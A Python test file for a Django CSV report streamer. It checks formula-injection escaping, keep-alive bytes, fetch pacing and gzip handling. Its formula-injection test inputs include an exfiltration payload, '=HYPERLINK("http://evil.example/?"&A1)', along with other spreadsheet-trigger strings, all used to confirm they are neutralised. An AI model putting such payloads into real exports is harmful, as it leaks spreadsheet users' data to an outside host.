"""What a report's bytes are made of."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from uuid import UUID

import pandas as pd
import pytest
from django.http import HttpRequest, StreamingHttpResponse
from django.middleware.gzip import GZipMiddleware
from hypothesis import given
from hypothesis import strategies as st

from token_rotation.streaming.cells import cells, harmless
from token_rotation.streaming.encoder import CsvEncoder
from token_rotation.streaming.keep_alive import BLANK_LINE, HELD_BACK_BYTES, KeepAlive
from token_rotation.streaming.pace import BLOCK_BYTES, FETCH_SECONDS, ROWS_AT_MOST, FetchPace

TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize(
    "formula",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "－1"),
        '=HYPERLINK("http://evil.example/?"&A1)',
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_made_text(formula: str) -> None:
    data = CsvEncoder(["=title", "text"]).lines([[1, formula]])
    assert read(data) == [["1", f"'{formula}"]]


@pytest.mark.parametrize("text", ["", "a=b", "1-2", "'=1", "Ticket", " a "])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_titles_are_made_harmless_too() -> None:
    assert read(CsvEncoder(["=1", "b"]).header()) == [["'=1", "b"]]


def test_numbers_stay_numbers_and_other_values_have_one_text() -> None:
    values = [-5, -0.5, Decimal("-1.50"), None, True, date(2026, 1, 5)]
    assert cells(values) == [-5, -0.5, Decimal("-1.50"), None, True, "2026-01-05"]
    assert cells([datetime(2026, 1, 5, 10, tzinfo=UTC)]) == ["2026-01-05T10:00:00+00:00"]
    key = UUID(int=7)
    assert cells([key, ["=1"]]) == [f"{key}", "['=1']"]


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=5))
def test_any_text_can_be_read_back(rows: list[list[str]]) -> None:
    assert read(CsvEncoder(["a", "b"]).lines(rows)) == [list(map(harmless, row)) for row in rows]


def test_the_last_line_of_an_incomplete_file_has_as_many_cells_as_every_line() -> None:
    ((words, *empty),) = read(CsvEncoder(["a", "b", "c"]).last_line("it broke"))
    assert words == "INCOMPLETE, do not use this file: it broke"
    assert empty == ["", ""]


@given(st.lists(st.tuples(st.integers(1, 400), st.integers(0, 300)), min_size=1, max_size=6))
def test_waits_change_no_record_wherever_they_fall(blocks: list[tuple[int, int]]) -> None:
    encoder, keep_alive, sent, rows = CsvEncoder(["n", "text"]), KeepAlive(), b"", []
    for length, keep_alives in blocks:
        rows.append([f"{len(rows)}", '"ä\r\n,' + "x" * length])
        piece = keep_alive.feed(encoder.lines([rows[-1]]))
        assert piece
        sent += piece
        for _ in range(keep_alives):
            byte = keep_alive.filler()
            assert byte
            sent += byte
    assert [row for row in read(sent + keep_alive.remaining()) if row] == rows


@given(st.binary(min_size=1, max_size=500), st.integers(0, HELD_BACK_BYTES - 1))
def test_a_short_wait_changes_no_byte(block: bytes, keep_alives: int) -> None:
    keep_alive = KeepAlive()
    sent = keep_alive.feed(block)
    for _ in range(min(keep_alives, len(block) - 1)):
        sent += keep_alive.filler()
    assert sent + keep_alive.remaining() == block
    assert keep_alive.filler() == BLANK_LINE


def test_an_empty_cell_of_the_only_column_is_no_blank_line() -> None:
    encoder, keep_alive = CsvEncoder(["only"]), KeepAlive()
    data = (
        keep_alive.feed(encoder.header() + encoder.lines([[None], ["a"], [""]]))
        + keep_alive.remaining()
    )
    data += keep_alive.filler()
    assert [row for row in read(data) if row] == [["only"], [""], ["a"], [""]]
    assert len(pd.read_csv(io.BytesIO(data))) == 3


def test_rows_are_fetched_one_by_one_while_they_are_slow_and_many_at_a_time_when_quick() -> None:
    pace = FetchPace()
    assert pace.rows == 1
    for _ in range(20):
        pace.note(seconds=0.001, block_bytes=1000)
    assert pace.rows == ROWS_AT_MOST
    for _ in range(20):
        pace.note(seconds=FETCH_SECONDS * 2, block_bytes=10)
    assert pace.rows == 1


def test_wide_rows_are_fetched_in_blocks_of_bounded_size() -> None:
    pace, row_bytes = FetchPace(), 10_000
    for _ in range(20):
        pace.note(seconds=0.001, block_bytes=pace.rows * row_bytes)
        assert pace.rows * row_bytes <= 2 * BLOCK_BYTES


def test_compressing_middleware_keeps_its_hands_off() -> None:
    """It would collect the bytes that keep the connection alive."""

    def answer(_: HttpRequest) -> Any:
        def pieces() -> Iterator[bytes]:
            yield from (b"n", b"\r\n")

        return StreamingHttpResponse(pieces(), headers={"Content-Encoding": "identity"})

    request = HttpRequest()
    request.META["HTTP_ACCEPT_ENCODING"] = "gzip"
    response = GZipMiddleware(answer)(request)
    assert list(response.streaming_content) == [b"n", b"\r\n"]  # type: ignore[attr-defined]
